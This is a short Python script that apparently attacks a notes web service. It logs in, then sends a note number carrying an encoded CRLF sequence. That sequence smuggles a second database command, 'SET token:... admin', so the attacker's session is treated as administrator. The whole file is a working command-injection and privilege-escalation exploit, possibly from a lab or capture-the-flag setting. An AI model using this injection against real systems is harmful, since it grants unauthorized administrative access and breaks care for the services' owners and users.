# Hands the database a second order behind the number of a note: to take us for the administrator.
from urllib.parse import quote

from client import ask, log_in

token = log_in()
print(*ask("/notes/" + quote(f"1\r\nSET token:{token} admin"), token))
print(*ask("/notes/1", token))
